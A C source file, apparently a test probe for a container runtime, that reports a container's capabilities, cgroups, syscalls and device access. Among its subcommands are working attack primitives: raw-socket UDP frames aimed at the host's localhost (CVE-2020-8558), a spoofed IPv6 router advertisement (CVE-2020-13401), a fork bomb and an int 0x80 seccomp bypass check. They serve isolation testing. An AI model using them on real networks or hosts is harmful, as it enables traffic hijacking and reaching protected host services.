/* A tiny static probe run inside fastbox containers (like crun's tests/init.c).
 *
 *   probe pid | caps | nnp | fds | hostname | cgroup | sigs | uid | mounts
 *   probe rawudp IFNAME DSTMAC SRCIP DSTIP DPORT TEXT | rawra IFNAME PREFIX
 *   probe memhog MB [hold] | forkbomb N | exit N | read PATH | write PATH
 *   probe syscall NR [ARG...] | clone FLAGS | clone3 FLAGS | fork | int80 NR [ARG...]
 *     (the raw call; prints OK or the errno's name, e.g. EPERM: what seccomp let through)
 *   probe devnode PATH c|b MAJOR MINOR [...] | open PATH r|w|rw [...]
 *     (per node: mknod then open; or open an existing one: "PATH mknod=OK open=EPERM")
 *
 * Build: gcc -static -O2 -o probe probe.c (tests/probe/build.py does it). */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <sys/ioctl.h>
#include <netinet/in.h>
#include <sys/time.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef SYS_clone3
#define SYS_clone3 435
#endif

static int cat(const char *path)
{
    char buf[4096];
    ssize_t n;
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        printf("%s\n", strerrorname_np(errno));
        return 1;
    }
    while ((n = read(fd, buf, sizeof buf)) > 0)
        fwrite(buf, 1, (size_t)n, stdout);
    close(fd);
    return 0;
}

/* Lines of /proc/self/status whose key is one of keys (NULL-terminated). */
static int status_fields(const char *const *keys)
{
    char line[512];
    FILE *f = fopen("/proc/self/status", "re");
    if (!f)
        return 1;
    while (fgets(line, sizeof line, f))
        for (const char *const *k = keys; *k; k++)
            if (!strncmp(line, *k, strlen(*k)) && line[strlen(*k)] == ':')
                fputs(line, stdout);
    fclose(f);
    return 0;
}

static int fds(void)
{
    DIR *d = opendir("/proc/self/fd");
    if (!d)
        return 1;
    /* The listing itself holds one fd: report it separately so callers can discount it. */
    printf("dirfd %d\n", dirfd(d));
    for (struct dirent *e; (e = readdir(d));) {
        if (e->d_name[0] == '.')
            continue;
        char link[512] = "";
        char path[300];
        snprintf(path, sizeof path, "/proc/self/fd/%s", e->d_name);
        ssize_t n = readlink(path, link, sizeof link - 1);
        link[n > 0 ? n : 0] = '\0';
        printf("fd %s %s\n", e->d_name, link);
    }
    closedir(d);
    return 0;
}

/* Allocate and touch mb MiB, printing each MiB; with hold, then wait for stdin's EOF
 * (so the memory stays charged while a test looks at the cgroup). */
static int memhog(long mb, int hold)
{
    for (long i = 0; i < mb; i++) {
        char *p = malloc(1 << 20);
        if (!p) {
            printf("malloc failed at %ld MiB\n", i);
            return 1;
        }
        for (long j = 0; j < (1 << 20); j += 4096)
            p[j] = 1;
        printf("%ld\n", i + 1);
        fflush(stdout);
    }
    printf("done\n");
    fflush(stdout);
    if (hold) {
        char b;
        ssize_t n;
        while ((n = read(0, &b, 1)) > 0 || (n < 0 && errno == EINTR))
            ;
    }
    return 0;
}

/* Fork (children just wait to be killed) until n forks or the first failure. */
static int forkbomb(long n)
{
    static pid_t kids[4096];
    long ok = 0;
    int err = 0;
    if (n > 4096)
        n = 4096;
    for (long i = 0; i < n; i++) {
        pid_t pid = fork();
        if (pid < 0) {
            err = errno;
            break;
        }
        if (pid == 0) {
            for (;;)
                pause();
        }
        kids[ok++] = pid;
    }
    printf("forks %ld\nerrno %s\n", ok, err ? strerrorname_np(err) : "0");
    fflush(stdout);
    for (long i = 0; i < ok; i++)
        kill(kids[i], SIGKILL);
    while (wait(NULL) > 0 || errno == EINTR)
        ;
    return 0;
}

static int readable(const char *path)
{
    char buf[4096];
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        printf("%s\n", strerrorname_np(errno));
        return 1;
    }
    ssize_t n = read(fd, buf, sizeof buf);
    int err = errno;
    close(fd);
    if (n < 0) {
        printf("%s\n", strerrorname_np(err));
        return 1;
    }
    printf("%zd\n", n);
    return 0;
}

static int writable(const char *path)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    if (fd < 0 || write(fd, "x", 1) != 1) {
        printf("%s\n", strerrorname_np(errno));
        return 1;
    }
    close(fd);
    printf("ok\n");
    return 0;
}

static int print_result(long r, int err)
{
    printf("%s\n", r >= 0 ? "OK" : strerrorname_np(err) ? strerrorname_np(err) : "E?");
    return 0;
}

/* syscall NR ARG...: numbers in C notation (0x... for hex), as 64-bit values */
static int raw_syscall(int argc, char **argv)
{
    unsigned long a[6] = {0};
    for (int i = 0; i < 6 && i + 3 < argc; i++)
        a[i] = strtoull(argv[i + 3], NULL, 0);
    errno = 0;
    long r = syscall(strtol(argv[2], NULL, 0), a[0], a[1], a[2], a[3], a[4], a[5]);
    return print_result(r, errno);
}

/* A child made by clone/clone3/fork exits at once; the parent reaps it. */
static int reap(long r, int err)
{
    if (r == 0)
        _exit(0);
    if (r > 0)
        waitpid((pid_t)r, NULL, 0);
    return print_result(r, err);
}

static int do_clone3(unsigned long flags)
{
    struct {
        uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
    } args = {.flags = flags, .exit_signal = SIGCHLD};
    long r = syscall(SYS_clone3, &args, sizeof args);
    return reap(r, errno);
}

/* The i386 ABI on an x86_64 kernel: a foreign architecture to the filter. */
static int int80(int argc, char **argv)
{
#if defined(__x86_64__)
    long nr = strtol(argv[2], NULL, 0), ret;
    long b = argc > 3 ? strtol(argv[3], NULL, 0) : 0, c = argc > 4 ? strtol(argv[4], NULL, 0) : 0;
    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(b), "c"(c) : "memory");
    return print_result(ret < 0 && ret > -4096 ? -1 : 0, (int)-ret);
#else
    printf("unsupported\n");
    return 2;
#endif
}

static const char *errname(int r)
{
    return r >= 0 ? "OK" : strerrorname_np(errno) ? strerrorname_np(errno) : "E?";
}

/* Opened without blocking and without becoming our controlling terminal. */
static int open_dev(const char *path, const char *mode)
{
    int flags = !strcmp(mode, "rw") ? O_RDWR : !strcmp(mode, "w") ? O_WRONLY : O_RDONLY;
    int fd = open(path, flags | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
    if (fd >= 0)
        close(fd);
    return fd;
}

/* devnode PATH TYPE MAJOR MINOR...: mknod each (mode 0666), then open it read-only. */
static int devnodes(int argc, char **argv)
{
    for (int i = 2; i + 3 < argc; i += 4) {
        mode_t type = argv[i + 1][0] == 'b' ? S_IFBLK : S_IFCHR;
        dev_t dev = makedev(strtoul(argv[i + 2], NULL, 0), strtoul(argv[i + 3], NULL, 0));
        int r = mknod(argv[i], type | 0666, dev);
        printf("%s mknod=%s", argv[i], errname(r));
        printf(" open=%s\n", r < 0 ? "-" : errname(open_dev(argv[i], "r")));
    }
    return 0;
}

/* open PATH MODE...: each existing node opened as asked (r, w, rw). */
static int opens(int argc, char **argv)
{
    for (int i = 2; i + 1 < argc; i += 2)
        printf("%s open=%s\n", argv[i], errname(open_dev(argv[i], argv[i + 1])));
    return 0;
}

/* udp-echo PORT: answer each datagram with "echo:" and its bytes, for ever (busybox's
 * nc has no UDP); udp-send ADDR PORT TEXT: send TEXT, print the answer (2 s at most). */
static int udp_echo(int port)
{
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
    if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) < 0)
        return perror("udp-echo"), 1;
    printf("listening\n");
    fflush(stdout);
    for (;;) {
        char buf[1500] = "echo:";
        struct sockaddr_in from;
        socklen_t len = sizeof from;
        ssize_t n = recvfrom(s, buf + 5, sizeof buf - 5, 0, (struct sockaddr *)&from, &len);
        if (n >= 0)
            sendto(s, buf, (size_t)n + 5, 0, (struct sockaddr *)&from, len);
    }
}

static int udp_send(const char *addr, int port, const char *text)
{
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
    struct timeval tv = {2, 0};
    char buf[1500];
    if (s < 0 || inet_pton(AF_INET, addr, &a.sin_addr) != 1)
        return 2;
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    sendto(s, text, strlen(text), 0, (struct sockaddr *)&a, sizeof a);
    ssize_t n = recv(s, buf, sizeof buf - 1, 0);
    if (n < 0)
        return perror("udp-send"), 1;
    buf[n] = 0;
    printf("%s\n", buf);
    return 0;
}

/* rawudp IFNAME DSTMAC SRCIP DSTIP DPORT TEXT: one UDP datagram in a hand-made Ethernet
 * frame sent with AF_PACKET (NET_RAW, one of Docker's default capabilities): it bypasses
 * the container's routing, so a destination such as 127.0.0.1 goes out to DSTMAC, the
 * host's bridge (the route_localnet attack, CVE-2020-8558). */
static unsigned short ip_sum(const unsigned char *p, int n)
{
    unsigned long sum = 0;
    for (int i = 0; i < n; i += 2)
        sum += (unsigned long)(p[i] << 8 | p[i + 1]);
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (unsigned short)~sum;
}

static int rawudp(char **argv)
{
    unsigned char f[1514] = {0}, mac[6];
    unsigned m[6];
    if (sscanf(argv[3], "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6)
        return 2;
    for (int i = 0; i < 6; i++)
        mac[i] = (unsigned char)m[i];
    int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
    struct ifreq ifr = {0};
    strncpy(ifr.ifr_name, argv[2], IFNAMSIZ - 1);
    if (s < 0 || ioctl(s, SIOCGIFHWADDR, &ifr) < 0 || ioctl(s, SIOCGIFINDEX, &ifr) < 0)
        return perror("rawudp"), 1;
    size_t len = strlen(argv[7]);
    memcpy(f, mac, 6);
    memcpy(f + 6, ifr.ifr_hwaddr.sa_data, 6);
    f[12] = 0x08;
    unsigned char *ip = f + 14, *udp = ip + 20;
    ip[0] = 0x45;
    ip[2] = (unsigned char)((28 + len) >> 8);
    ip[3] = (unsigned char)(28 + len);
    ip[8] = 64;
    ip[9] = 17;
    inet_pton(AF_INET, argv[4], ip + 12);
    inet_pton(AF_INET, argv[5], ip + 16);
    unsigned short sum = ip_sum(ip, 20);
    ip[10] = (unsigned char)(sum >> 8);
    ip[11] = (unsigned char)sum;
    int dport = atoi(argv[6]);
    udp[0] = 0x9c, udp[1] = 0x40; /* source port 40000 */
    udp[2] = (unsigned char)(dport >> 8), udp[3] = (unsigned char)dport;
    udp[4] = (unsigned char)((8 + len) >> 8), udp[5] = (unsigned char)(8 + len);
    memcpy(udp + 8, argv[7], len);
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = ifr.ifr_ifindex, .sll_halen = 6};
    memcpy(to.sll_addr, mac, 6);
    if (sendto(s, f, 14 + 28 + len, 0, (struct sockaddr *)&to, sizeof to) < 0)
        return perror("rawudp send"), 1;
    printf("sent\n");
    return 0;
}

/* rawra IFNAME PREFIX: an IPv6 router advertisement, hand-made and sent with AF_PACKET
 * (NET_RAW) from a spoofed link-local address to all nodes: "route everything through
 * me, and take an address in PREFIX/64" (the neighbour's RA attack, CVE-2020-13401). */
static int rawra(char **argv)
{
    unsigned char f[128] = {0};
    int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IPV6));
    struct ifreq ifr = {0};
    strncpy(ifr.ifr_name, argv[2], IFNAMSIZ - 1);
    if (s < 0 || ioctl(s, SIOCGIFHWADDR, &ifr) < 0 || ioctl(s, SIOCGIFINDEX, &ifr) < 0)
        return perror("rawra"), 1;
    const unsigned char all_nodes_mac[6] = {0x33, 0x33, 0, 0, 0, 1};
    memcpy(f, all_nodes_mac, 6);
    memcpy(f + 6, ifr.ifr_hwaddr.sa_data, 6);
    f[12] = 0x86, f[13] = 0xdd;
    unsigned char *ip = f + 14, *ra = ip + 40;
    int len = 16 + 32 + 8; /* the RA, a prefix option, a source link-layer option */
    ip[0] = 0x60;
    ip[4] = 0, ip[5] = (unsigned char)len;
    ip[6] = 58, ip[7] = 255; /* ICMPv6; hop limit 255, as an RA must have */
    inet_pton(AF_INET6, "fe80::bad", ip + 8);
    inet_pton(AF_INET6, "ff02::1", ip + 24);
    ra[0] = 134;                           /* router advertisement */
    ra[4] = 64, ra[6] = 0x07, ra[7] = 0x08; /* hop limit; router lifetime 1800 s */
    unsigned char *pi = ra + 16;           /* prefix information: on-link, autonomous */
    pi[0] = 3, pi[1] = 4, pi[2] = 64, pi[3] = 0xc0;
    pi[4] = pi[8] = 0, pi[5] = pi[9] = 1, pi[6] = pi[10] = 0x51, pi[7] = pi[11] = 0x80;
    inet_pton(AF_INET6, argv[3], pi + 16);
    unsigned char *sl = pi + 32;           /* source link-layer address */
    sl[0] = 1, sl[1] = 1;
    memcpy(sl + 2, ifr.ifr_hwaddr.sa_data, 6);
    unsigned char pseudo[40 + 56] = {0};   /* checksum: over a pseudo-header and the RA */
    memcpy(pseudo, ip + 8, 32);
    pseudo[35] = (unsigned char)len, pseudo[39] = 58;
    memcpy(pseudo + 40, ra, (size_t)len);
    unsigned short sum = ip_sum(pseudo, 40 + len);
    ra[2] = (unsigned char)(sum >> 8), ra[3] = (unsigned char)sum;
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = ifr.ifr_ifindex, .sll_halen = 6};
    memcpy(to.sll_addr, all_nodes_mac, 6);
    for (int i = 0; i < 3; i++)
        if (sendto(s, f, (size_t)(14 + 40 + len), 0, (struct sockaddr *)&to, sizeof to) < 0)
            return perror("rawra send"), 1;
    printf("sent\n");
    return 0;
}

int main(int argc, char **argv)
{
    const char *cmd = argc > 1 ? argv[1] : "";
    const char *arg = argc > 2 ? argv[2] : "0";
    if (!strcmp(cmd, "rawudp") && argc > 7)
        return rawudp(argv);
    if (!strcmp(cmd, "rawra") && argc > 3)
        return rawra(argv);
    if (!strcmp(cmd, "udp-echo"))
        return udp_echo(atoi(arg));
    if (!strcmp(cmd, "udp-send") && argc > 4)
        return udp_send(argv[2], atoi(argv[3]), argv[4]);
    if (!strcmp(cmd, "pid"))
        return printf("%d\n", getpid()) < 0;
    if (!strcmp(cmd, "caps"))
        return status_fields((const char *const[]){"CapEff", "CapPrm", "CapBnd", "CapInh", "CapAmb", NULL});
    if (!strcmp(cmd, "sigs"))
        return status_fields((const char *const[]){"SigIgn", "SigBlk", NULL});
    if (!strcmp(cmd, "nnp"))
        return printf("%d\n", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0)) < 0;
    if (!strcmp(cmd, "fds"))
        return fds();
    if (!strcmp(cmd, "hostname")) {
        char name[256] = "";
        gethostname(name, sizeof name - 1);
        return printf("%s\n", name) < 0;
    }
    if (!strcmp(cmd, "cgroup"))
        return cat("/proc/self/cgroup");
    if (!strcmp(cmd, "mounts"))
        return cat("/proc/self/mountinfo");
    if (!strcmp(cmd, "uid")) {
        gid_t groups[64];
        int n = getgroups(64, groups);
        printf("uid %u\ngid %u\ngroups", getuid(), getgid());
        for (int i = 0; i < n; i++)
            printf(" %u", groups[i]);
        printf("\n");
        return 0;
    }
    if (!strcmp(cmd, "memhog"))
        return memhog(atol(arg), argc > 3 && !strcmp(argv[3], "hold"));
    if (!strcmp(cmd, "forkbomb"))
        return forkbomb(atol(arg));
    if (!strcmp(cmd, "exit"))
        return atoi(arg);
    if (!strcmp(cmd, "read"))
        return readable(arg);
    if (!strcmp(cmd, "write"))
        return writable(arg);
    if (!strcmp(cmd, "syscall") && argc > 2)
        return raw_syscall(argc, argv);
    if (!strcmp(cmd, "clone")) {
        long r = syscall(SYS_clone, strtoul(arg, NULL, 0) | SIGCHLD, 0, 0, 0, 0);
        return reap(r, errno);
    }
    if (!strcmp(cmd, "clone3"))
        return do_clone3(strtoul(arg, NULL, 0));
    if (!strcmp(cmd, "fork")) {
        pid_t r = fork();
        return reap(r, errno);
    }
    if (!strcmp(cmd, "int80") && argc > 2)
        return int80(argc, argv);
    if (!strcmp(cmd, "devnode"))
        return devnodes(argc, argv);
    if (!strcmp(cmd, "open"))
        return opens(argc, argv);
    fprintf(stderr, "usage: probe pid|caps|nnp|fds|hostname|cgroup|sigs|uid|mounts|"
                    "memhog MB|forkbomb N|exit N|read PATH|write PATH|syscall NR [ARG...]|"
                    "clone FLAGS|clone3 FLAGS|fork|int80 NR [ARG...]|devnode PATH c|b MAJ MIN|open PATH r|w|rw\n");
    return 2;
}
